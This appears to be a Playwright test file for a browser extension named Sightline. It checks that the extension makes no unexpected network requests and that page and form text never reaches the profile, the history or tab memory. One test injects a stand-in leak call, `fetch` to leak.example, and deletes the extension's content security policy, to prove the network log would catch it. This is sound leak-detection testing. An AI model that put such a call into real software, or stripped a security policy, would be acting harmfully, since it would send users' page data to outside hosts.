import { readFileSync, writeFileSync } from "node:fs";
import { expect } from "@playwright/test";
import { demoPages } from "../../scripts/demo/pages.ts";
import { filesHolding } from "./profile-scan.ts";
import { found, openCard, test } from "./sightline.ts";
import { variantOf } from "./variant.ts";

/** As the worker has it, where the functions below run. */
declare const chrome: {
  storage: {
    local: { get(keys: null): Promise<object>; set(values: object): Promise<void> };
    session: { get(keys: null): Promise<object> };
  };
  contextMenus: { onClicked: { dispatch(info: object, tab: object): void } };
};

test("no page, no popup and no worker asks the network for anything but the page itself", async ({ launch }, info) => {
  const log = info.outputPath("network.json");
  const sightline = await launch({ switches: [`--log-net-log=${log}`] });
  for (const { name } of demoPages) {
    const at = await sightline.open(name);
    await found(sightline, at);
    await at.popup?.close();
    await at.page.close();
  }
  for (const page of ["popup", "options", "sidepanel", "brief", "document"]) {
    const ours = await sightline.browser.context.newPage();
    await ours.goto(`chrome-extension://${sightline.browser.id}/${page}.html`);
    await expect(ours.locator("body")).not.toBeEmpty();
    await ours.close();
  }
  await sightline.browser.context.close();

  const itself = new Set(demoPages.map(({ url }) => url));
  const isExpected = (url: string) => itself.has(url) || url.endsWith("/demo.css") || url.endsWith("/favicon.ico");
  const asked = requestsIn(log).filter((request) => !isOfChromium(request));
  expect(asked.length, "the log shows the pages themselves").toBeGreaterThanOrEqual(demoPages.length);
  expect(asked.filter(({ url }) => !isExpected(url))).toEqual([]);
  expect(sightline.server.asked.filter((url) => !isExpected(url))).toEqual([]);
});

test("the record of requests would show one that left", async ({ launch }, info) => {
  const log = info.outputPath("network.json");
  const leak = "https://leak.example/?words";
  const extension = variantOf(info.outputPath("variant"), `fetch("${leak}").catch(() => undefined);`);
  // Our own policy forbids it before it starts; this one is to get as far as the network.
  const manifest = JSON.parse(readFileSync(`${extension}/manifest.json`, "utf8")) as {
    content_security_policy?: object;
  };
  delete manifest.content_security_policy;
  writeFileSync(`${extension}/manifest.json`, JSON.stringify(manifest));
  const sightline = await launch({ extension, switches: [`--log-net-log=${log}`] });
  await expect.poll(() => sightline.server.asked).toContain(leak);
  await sightline.browser.context.close();
  expect(
    requestsIn(log)
      .filter((request) => !isOfChromium(request))
      .map(({ url }) => url),
  ).toContain(leak);
});

test("no word of a page or a form is written to the profile", async ({ sightline }) => {
  const canary = {
    text: "quvexoplimtarba",
    heading: "wyzzelkronduffa",
    field: "bratnoquispelvo",
    printed: "zulfamerikandrosh",
  };
  sightline.server.put(
    "https://www.usaspending.gov/award/canary",
    `<!doctype html><title>Application</title><h1>Application for Federal Assistance ${canary.heading}</h1>
    <form><label for="a">Legal Name</label><input id="a" value="International Organization for Migration">
    <label for="b">Descriptive Title of Applicant's Project</label><input id="b" value="Help in Ghana ${canary.field}">
    <label for="c">Funding Opportunity Number</label><input id="c" value="SFOP0010120">
    <label for="d">Areas Affected by Project</label><input id="d" value="Ghana"></form>
    <table><tr><th>Applicant</th><td>${canary.printed}</td></tr></table>
    <p>Safe return for children in Ghana. ${canary.text}</p>`,
  );
  const at = await sightline.open("https://www.usaspending.gov/award/canary");
  await found(sightline, at);
  await openCard(at);
  const dossier = await sightline.browser.context.newPage();
  await dossier.goto(`chrome-extension://${sightline.browser.id}/sidepanel.html`);
  const worker = await sightline.browser.worker();
  const stored = JSON.stringify(await worker.evaluate(() => chrome.storage.local.get(null)));
  for (const word of Object.values(canary)) expect(stored).not.toContain(word);

  // A scan that could find nothing would prove nothing: this word is written, and must be found.
  const planted = "plantedvernimoskatu";
  await worker.evaluate((word) => chrome.storage.local.set({ planted: word }), planted);
  await sightline.browser.context.close();
  expect(filesHolding(sightline.browser.profile, planted)).not.toEqual([]);
  for (const word of Object.values(canary)) expect(filesHolding(sightline.browser.profile, word)).toEqual([]);
});

test("neither who asks on a page nor what is looked up from it reaches the browser's history or its tabs' memory", async ({
  sightline,
}) => {
  const canary = { applicant: "Xerpolantibruk", title: "vostrimaquendel", selected: "hulberantoquix" };
  sightline.server.put(
    "https://www.usaspending.gov/award/canary",
    `<!doctype html><title>Application</title><h1>Application for Federal Assistance</h1>
    <form><label for="a">Legal Name</label><input id="a" value="${canary.applicant} Foundation">
    <label for="b">Descriptive Title of Applicant's Project</label><input id="b" value="Help in Ghana ${canary.title}">
    <label for="c">Funding Opportunity Number</label><input id="c" value="SFOP0010120">
    <label for="d">Areas Affected by Project</label><input id="d" value="Ghana"></form>
    <p>Safe return for children in Ghana.</p>`,
  );
  const at = await sightline.open("https://www.usaspending.gov/award/canary");
  await found(sightline, at);
  const { browser } = sightline;
  const worker = await browser.worker();
  const held = await worker.evaluate(async () => Object.keys(await chrome.storage.session.get(null)));
  const tab = held.find((key) => key.startsWith("finding "))?.split(" ")[1];
  const brief = await browser.context.newPage();
  await brief.goto(`chrome-extension://${browser.id}/brief.html?tab=${tab}`);
  await expect(brief.getByText(`${canary.applicant} Foundation`).first()).toBeVisible();
  expect(await brief.title()).toBe("Brief");

  const opened = browser.context.waitForEvent("page", (page) => page.url().includes("/search.html"));
  const selectionText = `${canary.selected} ghana`;
  await worker.evaluate(
    (text) => chrome.contextMenus.onClicked.dispatch({ menuItemId: "look-up", selectionText: text }, {}),
    selectionText,
  );
  const search = await opened;
  await expect(search.getByRole("combobox")).toHaveValue(selectionText);
  await expect(search.getByRole("option").first()).toBeVisible();
  // Known to the history, which would have had the words too.
  const plain = await browser.context.newPage();
  await plain.goto(`chrome-extension://${browser.id}/brief.html?country=GH`);
  await expect(plain).toHaveTitle("Brief: Ghana");
  await browser.context.close();
  expect(filesHolding(browser.profile, "Brief: Ghana").join()).toContain("History");
  for (const word of Object.values(canary)) expect(filesHolding(browser.profile, word)).toEqual([]);
});

interface Request {
  url: string;
  /** The origin that asked; "not an origin" where the browser itself did. */
  initiator: string;
}

/** Every request over the web that the browser's network service was given, from its own log. */
function requestsIn(log: string): Request[] {
  const { constants, events } = JSON.parse(readFileSync(log, "utf8")) as {
    constants: { logEventTypes: Record<string, number> };
    events: { type: number; params?: Partial<Request> }[];
  };
  const start = constants.logEventTypes.URL_REQUEST_START_JOB;
  return events
    .filter(({ type, params }) => type === start && /^(https?|wss?):/.test(params?.url ?? ""))
    .map(({ params }) => ({ url: params?.url ?? "", initiator: params?.initiator ?? "" }));
}

/** Chromium's own errands, which it would run without us: to its maker, and never asked for by a page or an extension. */
function isOfChromium({ url, initiator }: Request): boolean {
  return initiator === "not an origin" && /\.(google|googleapis|gstatic|gvt1)\.com$/.test(new URL(url).hostname);
}
